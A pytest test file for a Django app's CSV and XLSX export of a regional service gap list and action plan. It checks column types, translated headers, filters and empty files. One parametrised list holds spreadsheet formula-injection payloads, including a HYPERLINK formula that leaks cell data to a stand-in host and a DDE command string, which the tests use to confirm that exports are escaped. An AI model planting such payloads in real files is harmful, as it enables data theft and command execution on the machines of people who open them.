"""The gap list and the action plan as CSV and XLSX: they parse back, with numbers as numbers
and dates as dates, headers in the page's language, and an empty plan is a valid file."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from mapping import coverage
from mapping.models import Action
from mapping.templatetags.mapping_format import percent_value
from services.models import Organisation
from tests.mapping.dashboard_fixtures import *  # noqa: F403
from tests.mapping.dashboard_fixtures import ETELA_SAVO, SAVONLINNA
from tests.mapping.worlds import make_service


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes) -> list[tuple]:
    sheet = load_workbook(io.BytesIO(content)).active
    return list(sheet.iter_rows(values_only=True))


@pytest.fixture
def action(small_world: dict, organisation: Organisation) -> Action:
    return Action.objects.create(
        municipality_id=SAVONLINNA,
        tier_id="UNIVERSAL_GROUP",
        target_group_id="PARENTS",
        owner=organisation,
        kind=Action.Kind.NEW,
        description="Vertaisryhmä, ”Äidit & isät”\ntoinen rivi",
        due_date=dt.date(2026, 9, 30),
    )


def test_the_gap_list_exports_as_csv_in_rank_order(staff_client: Client, small_world: dict) -> None:
    response = staff_client.get(
        reverse("mapping:gap_export", args=["csv"]) + f"?county={ETELA_SAVO}"
    )
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response.content)
    overview = coverage.gap_overview(county=ETELA_SAVO)
    assert rows[0][:4] == ["rank", "wellbeing services county", "municipality code", "municipality"]
    assert rows[0][12:] == [
        "kind",
        "also counts for",
        "county coverage (%)",
        "only services using a method rated at least",
    ]
    assert len(rows) == len(overview.unequal) + len(overview.missing) + 1
    mostly = [row for row in overview.missing if not row.missing_everywhere]
    everywhere = [row for row in overview.missing if row.missing_everywhere]
    # Unequal gaps first, then the supports missing in most of the county, then everywhere,
    # each ranked from 1.
    first = rows[1 + len(overview.unequal)]
    assert first[0] == "1" and first[12] == "missing in most of the county"
    assert int(first[8]) == round(mostly[0].uncovered_children)
    assert float(first[14]) == percent_value(mostly[0].county_coverage)
    last = rows[-1]
    assert last[0] == str(len(everywhere)) and last[12] == "missing everywhere in the county"
    assert last[3] == ", ".join(everywhere[-1].municipalities)
    folded = next(row for row in rows if row[5] == "parents" and row[13])
    assert folded[13] == "mothers, fathers"


def test_the_gap_list_exports_as_xlsx_with_numbers_as_numbers(
    staff_client: Client, small_world: dict
) -> None:
    make_service(
        tier="UNIVERSAL_GROUP",
        channels=["GROUP"],
        counties=[ETELA_SAVO],
        locations=[(61.6886, 27.2723), (61.8687, 28.8794)],
    )
    coverage.recompute()
    response = staff_client.get(
        reverse("mapping:gap_export", args=["xlsx"]) + f"?county={ETELA_SAVO}&threshold=50"
    )
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = read_xlsx(response.content)
    overview = coverage.gap_overview(county=ETELA_SAVO, threshold=0.5)
    assert overview.unequal
    assert len(rows) == len(overview.unequal) + len(overview.missing) + 1
    for row, gap in zip(rows[1:], overview.unequal, strict=False):
        assert row[2] == gap.municipality
        assert isinstance(row[7], int) and row[7] == round(gap.children)
        assert isinstance(row[9], int | float) and row[9] < 50
        assert isinstance(row[14], int | float) and row[14] > 50


def test_the_plan_exports_as_csv_and_xlsx_with_dates_as_dates(
    staff_client: Client, action: Action
) -> None:
    rows = read_csv(staff_client.get(reverse("mapping:plan_export", args=["csv"])).content)
    assert len(rows) == 2
    header, row = rows
    assert row[header.index("description")] == action.description
    assert row[header.index("due date")] == "2026-09-30"
    assert row[header.index("gap")] == "open"
    assert row[header.index("what")] == "start a new service"

    rows = read_xlsx(staff_client.get(reverse("mapping:plan_export", args=["xlsx"])).content)
    header, row = rows
    assert row[header.index("due date")] == dt.datetime(2026, 9, 30)
    assert isinstance(row[header.index("created")], dt.datetime)
    assert row[header.index("owner organisation")] == "Etelä-Savon hyvinvointialue"


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_empty_plan_exports_as_a_valid_file_with_headers(
    staff_client: Client, small_world: dict, file_format: str
) -> None:
    response = staff_client.get(reverse("mapping:plan_export", args=[file_format]))
    assert response.status_code == 200
    rows = read_csv(response.content) if file_format == "csv" else read_xlsx(response.content)
    assert len(rows) == 1
    assert "due date" in rows[0]


def test_headers_are_in_the_language_of_the_page(staff_client: Client, action: Action) -> None:
    with translation.override("fi"):
        csv_url = reverse("mapping:plan_export", args=["csv"])
        xlsx_url = reverse("mapping:plan_export", args=["xlsx"])
    header = read_csv(staff_client.get(csv_url).content)[0]
    assert "määräpäivä" in header
    header = read_xlsx(staff_client.get(xlsx_url).content)[0]
    assert "määräpäivä" in header


def test_exports_follow_the_filters_of_the_page(
    staff_client: Client, action: Action, organisation: Organisation
) -> None:
    Action.objects.create(
        municipality_id="091",
        tier_id="DIGITAL",
        target_group_id="FATHERS",
        owner=organisation,
        kind=Action.Kind.PROMOTE,
        description="Helsinki",
        due_date=dt.date(2026, 1, 1),
    )
    url = reverse("mapping:plan_export", args=["csv"])
    assert len(read_csv(staff_client.get(url).content)) == 3
    response = staff_client.get(f"{url}?county={ETELA_SAVO}")
    assert len(read_csv(response.content)) == 2
    assert "action-plan-south-savo-wellbeing-services-county-" in response["Content-Disposition"]


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the plan")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_names_and_texts_from_imports_never_become_formulas(
    staff_client: Client, action: Action, text: str
) -> None:
    action.owner.name_fi = text
    action.owner.save()
    Action.objects.filter(pk=action.pk).update(description=text)

    header, row = read_csv(staff_client.get(reverse("mapping:plan_export", args=["csv"])).content)
    # OWASP: a leading apostrophe makes the spreadsheet program read the rest as text.
    assert row[header.index("owner organisation")] == "'" + text
    assert row[header.index("description")] == "'" + text

    content = staff_client.get(reverse("mapping:plan_export", args=["xlsx"])).content
    sheet = load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    for name in ("owner organisation", "description"):
        cell = sheet.cell(row=2, column=header.index(name) + 1)
        # A string cell (XML reads a carriage return back as a line feed).
        assert (cell.value, cell.data_type) == (text.replace("\r", "\n"), "s")


def test_numbers_and_ordinary_texts_are_written_as_they_are(
    staff_client: Client, action: Action
) -> None:
    header, row = read_csv(staff_client.get(reverse("mapping:plan_export", args=["csv"])).content)
    assert row[header.index("description")] == action.description
    assert row[header.index("municipality code")] == SAVONLINNA
